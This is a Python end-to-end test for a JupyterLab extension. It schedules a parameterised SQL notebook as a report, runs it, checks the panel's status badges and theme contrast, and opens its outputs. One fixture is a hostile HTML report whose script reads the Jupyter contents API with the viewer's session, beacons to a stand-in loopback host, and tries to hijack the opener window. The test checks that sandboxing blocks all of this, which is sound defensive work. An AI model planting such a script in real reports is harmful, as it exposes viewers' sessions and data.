"""Scheduled reports in a real JupyterLab, in a real browser.

A notebook with a ``parameters`` cell and a ``%%dap sql`` cell is scheduled from its toolbar;
the Reports panel shows the schedule; "Run now" runs it through the lab server's scheduler
(papermill, as the owner, over the server's REST API) and the panel's badge turns "succeeded"
by itself (it polls while a run is not over). The run's outputs are fetched from the panel: the
executed notebook downloads and holds the governed count for the parameter given in the dialog;
the HTML opens in a new tab, framed under the server's sandbox, where a hostile report's script
and remote resources neither run nor load. The badges read in the dark theme too. Removing the
schedule asks first.
"""

from __future__ import annotations

import json
import secrets
import threading
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from dap_kernel.session import Workspace
from dap_kernel.settings import Settings

from .conftest import Browser, Lab, close_main_area, new_notebook, open_lab, screenshot
from .test_lab_builder import delete
from .test_lab_dark_theme import CONTRAST, _theme

pytestmark = pytest.mark.e2e

SQL_CELL = (
    "%%dap sql --name counted\nSELECT count(*) AS customers FROM customers WHERE region = :region"
)
PRINT_CELL = "print(f\"customers in {region}: {counted['customers'][0]}\")"
# The test's notebook: %load_ext, a parameters cell, the SQL, a printed answer.
SETUP_CELLS = """async ([params, sql, show]) => {
    const panel = window.dapTestNotebook;
    const model = panel.content.model.sharedModel;
    model.insertCell(1, {cell_type: 'code', source: params, metadata: {tags: ['parameters']}});
    model.insertCell(2, {cell_type: 'code', source: sql, metadata: {}});
    model.insertCell(3, {cell_type: 'code', source: show, metadata: {}});
    await panel.context.save();
}"""
# The output's frame, as the opened tab holds it.
FRAME = """() => {
    const frame = document.querySelector('iframe');
    return {sandbox: frame?.getAttribute('sandbox'), srcdoc: frame?.getAttribute('srcdoc'),
            csp: document.querySelector('meta[http-equiv="Content-Security-Policy"]')
                ?.getAttribute('content'),
            opener: window.opener === null, url: location.href};
}"""


def customers_in(lab: Lab, region: str) -> int:
    ws = Workspace(Settings(home=lab.home, user="tester"))
    try:
        frame = ws.session().sql(
            "SELECT count(*) AS n FROM main.customers WHERE region = :region",
            params={"region": region},
        )
    finally:
        ws.close()
    return int(frame["n"][0])


def api_get(lab: Lab, path: str) -> bytes:
    with urllib.request.urlopen(f"{lab.url}/dap/api/v1/{path}?token={lab.token}", timeout=30) as r:
        body: bytes = r.read()
    return body


# A report whose owner wants to reach whoever opens it: script that would drive the Jupyter API
# with the viewer's session and call home, a remote image and style sheet. They all point at a
# real HTTP server on loopback that records what reaches it.
HOSTILE_REPORT = """<!DOCTYPE html><html><head>
<link rel="stylesheet" href="{beacon}/css">
<script>
  new Image().src = "{beacon}/script-ran";
  fetch("/api/contents").then(() => new Image().src = "{beacon}/jupyter-api-read");
  try {{ top.opener && top.opener.location.assign("{beacon}/opener"); }} catch (e) {{}}
</script></head>
<body><p id="report-body">quarterly numbers</p><img src="{beacon}/img"></body></html>"""


class _Recorder(BaseHTTPRequestHandler):
    hits: list[str]

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def beacon() -> Iterator[tuple[str, list[str]]]:
    """A real HTTP server on 127.0.0.1: its URL and the paths requested from it."""
    hits: list[str] = []
    handler = type("Recorder", (_Recorder,), {"hits": hits})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


def open_hostile_report(page: Any, run: Any, beacon: str) -> dict[str, Any]:
    """Open the run's HTML output with its bytes replaced by :data:`HOSTILE_REPORT` (as a
    report rendered from a hostile notebook would be): what the tab showed."""
    page.route(
        "**/dap/api/v1/schedule-runs/*/outputs/html*",
        lambda route: route.fulfill(
            status=200,
            body=HOSTILE_REPORT.format(beacon=beacon),
            headers={"Content-Type": "text/html"},
        ),
    )
    try:
        with page.context.expect_page(timeout=30_000) as opened:
            run.get_by_role("button", name="html output", exact=False).click()
        tab = opened.value
        tab.wait_for_function("location.href.startsWith('blob:')", timeout=30_000)
        # The report itself is shown (so nothing below passes because nothing rendered) …
        shown = tab.frame_locator("iframe").locator("#report-body")
        shown.wait_for(timeout=30_000)
        seen: dict[str, Any] = {"text": shown.inner_text()}
        # … and once its page has loaded, none of its scripts or resources ran or loaded.
        tab.wait_for_load_state("load", timeout=30_000)
        seen["lab_url"] = page.url
        tab.close()
    finally:
        page.unroute("**/dap/api/v1/schedule-runs/*/outputs/html*")
    return seen


def badge_contrast(page: Any) -> dict[str, Any]:
    """The contrast of the first run badge's word on its background, once it is drawn (the
    panel redraws its list as it reloads)."""
    handle = page.wait_for_function(
        f"""() => {{
            const el = document.querySelector('#dap-reports-panel .dap-run-badge');
            const seen = el && el.isConnected ? ({CONTRAST})(el) : null;
            return seen && seen.fg ? seen : null;
        }}""",
        timeout=30_000,
    )
    found: dict[str, Any] = handle.json_value()
    return found


def printed(notebook: dict[str, Any]) -> str:
    """The stream output of the executed notebook's cells, as one text."""
    return "".join(
        "".join(out.get("text", ""))
        for cell in notebook["cells"]
        for out in cell.get("outputs", [])
        if out.get("output_type") == "stream"
    )


def test_schedule_a_notebook_run_it_and_open_its_outputs(
    browser: Browser, lab: Lab, tmp_path: Path, beacon: tuple[str, list[str]]
) -> None:
    expected = customers_in(lab, "AMER")
    name = f"e2e report {secrets.token_hex(3)}"
    created: list[str] = []

    def steps(page: Any) -> dict[str, Any]:
        seen: dict[str, Any] = {}
        open_lab(page, lab, "dap:schedule-notebook")
        created.append(new_notebook(page, "%load_ext dap_kernel"))
        page.evaluate(SETUP_CELLS, ['region = "EMEA"  # a sales region', SQL_CELL, PRINT_CELL])

        # -- schedule it from the notebook's toolbar --------------------------------------
        page.locator(".jp-NotebookPanel:visible .jp-Toolbar").get_by_title(
            "Schedule this notebook as a report"
        ).click()
        form = page.locator("form.dap-schedule-form")
        form.wait_for(timeout=30_000)
        seen["defaults"] = {
            field: form.locator(f'[name="{field}"]').input_value()
            for field in ("name", "cron", "timezone", "parameters")
        }
        seen["browser_zone"] = page.evaluate("Intl.DateTimeFormat().resolvedOptions().timeZone")
        form.get_by_label("Name").fill(name)
        form.get_by_label("Time zone").fill("Europe/Berlin")
        # A parameter the notebook does not have: the server's refusal, one line, in the dialog.
        form.get_by_label("Parameters").fill("regoin=AMER")
        form.get_by_role("button", name="Schedule").click()
        error = form.locator(".dap-schedule-error")
        error.wait_for(state="visible", timeout=30_000)
        seen["refusal"] = error.inner_text()
        form.get_by_label("Parameters").fill("region=AMER")
        screenshot(page, "lab-schedule-dialog")
        form.get_by_role("button", name="Schedule").click()
        form.wait_for(state="detached", timeout=30_000)

        # -- the Reports panel opens on it ------------------------------------------------
        item = page.locator(f'#dap-reports-panel li.dap-report[data-name="{name}"]')
        item.wait_for(timeout=30_000)
        seen["item"] = item.inner_text()
        seen["fresh"] = "dap-report-new" in (item.get_attribute("class") or "")
        schedule_id = item.get_attribute("data-schedule-id")

        # -- Run now: queued → … → succeeded, by the panel's own polling -----------------
        item.get_by_role("button", name=f"Run {name} now").click()
        run = item.locator("li.dap-run").first
        run.wait_for(timeout=30_000)
        seen["first_status"] = run.get_attribute("data-status")
        item.locator(
            'li.dap-run[data-status="succeeded"], li.dap-run[data-status="failed"]'
        ).wait_for(timeout=240_000)
        seen["status"] = run.get_attribute("data-status")
        seen["badge"] = run.locator(".dap-run-badge").inner_text()
        seen["run_text"] = run.inner_text()
        seen["run_id"] = run.get_attribute("data-run-id")
        screenshot(page, "lab-reports-panel")
        # Readable in both themes: the badge's word keeps the theme's text colour.
        seen["contrast_light"] = badge_contrast(page)
        _theme(page, "JupyterLab Dark")
        try:
            seen["contrast_dark"] = badge_contrast(page)
            page.wait_for_selector("#jupyterlab-splash", state="detached", timeout=30_000)
            screenshot(page, "lab-reports-panel-dark")
        finally:
            _theme(page, "JupyterLab Light")

        # -- its outputs: the notebook downloads, the HTML opens in a new tab -------------
        with page.expect_download(timeout=30_000) as download:
            run.get_by_role("button", name="ipynb output", exact=False).click()
        target = tmp_path / "report.ipynb"
        download.value.save_as(target)
        seen["download_name"] = download.value.suggested_filename
        seen["notebook"] = json.loads(target.read_text())

        with page.context.expect_page(timeout=30_000) as opened:
            run.get_by_role("button", name="html output", exact=False).click()
        tab = opened.value
        tab.wait_for_function("location.href.startsWith('blob:')", timeout=30_000)
        tab.wait_for_selector("iframe", state="attached", timeout=30_000)
        seen["html_tab"] = tab.evaluate(FRAME)
        tab.close()
        # What the server holds (outputs go with the schedule, removed below).
        seen["html_file"] = api_get(lab, f"schedule-runs/{seen['run_id']}/outputs/html").decode()
        seen["hostile"] = open_hostile_report(page, run, beacon[0])

        # -- Pause, then Remove (after the confirmation) ----------------------------------
        item.get_by_role("button", name=f"Pause {name}").click()
        item.locator(".dap-report-paused").wait_for(timeout=30_000)
        seen["paused"] = item.locator(".dap-report-next").inner_text()
        item.get_by_role("button", name=f"Remove {name}").click()
        dialog = page.locator(".jp-Dialog")
        dialog.get_by_role("button", name="Remove").click()
        item.wait_for(state="detached", timeout=30_000)
        seen["schedule_id"] = schedule_id
        close_main_area(page)
        return seen

    try:
        seen = browser.run(steps, timeout=420)
    finally:
        for path in created:
            delete(lab, path)

    assert seen["defaults"]["name"] == Path(created[0]).stem
    assert seen["defaults"]["cron"] == "0 8 * * 1"
    assert seen["defaults"]["timezone"] == seen["browser_zone"]
    assert seen["defaults"]["parameters"] == "region=EMEA"  # read from the tagged cell
    assert "regoin" in seen["refusal"] and "\n" not in seen["refusal"].strip()

    assert seen["fresh"]
    assert "0 8 * * 1 (Europe/Berlin)" in seen["item"]
    assert "next " in seen["item"] and "Europe/Berlin" in seen["item"]

    assert seen["first_status"] in ("queued", "running", "succeeded")
    assert seen["status"] == "succeeded", seen["run_text"]
    assert seen["badge"].endswith("succeeded")
    assert "run now" in seen["run_text"]
    assert seen["contrast_dark"]["background"] < 0.2, seen["contrast_dark"]  # a dark theme
    for theme in ("contrast_light", "contrast_dark"):
        assert seen[theme]["ratio"] >= 4.5, (theme, seen[theme])

    # The executed notebook ran with the dialog's parameter, on governed data.
    assert seen["download_name"].endswith(".ipynb")
    assert f"customers in AMER: {expected}" in printed(seen["notebook"])
    # The HTML is the server's file, framed without script and without the lab's origin.
    html = seen["html_tab"]
    assert html["url"].startswith("blob:")
    assert html["opener"], "the report's tab must not reach JupyterLab's window"
    assert html["sandbox"] == "allow-popups allow-popups-to-escape-sandbox"
    assert html["csp"] == "default-src 'none'; img-src data:; style-src 'unsafe-inline'"
    assert html["srcdoc"] == seen["html_file"]
    # A hostile report: shown, but its script never runs and it loads nothing.
    assert seen["hostile"]["text"] == "quarterly numbers"
    assert beacon[1] == []
    assert not seen["hostile"]["lab_url"].startswith(beacon[0])

    assert seen["paused"] == "not due while paused"
    listed = json.loads(api_get(lab, "schedules"))["schedules"]
    assert seen["schedule_id"] not in [s["id"] for s in listed]
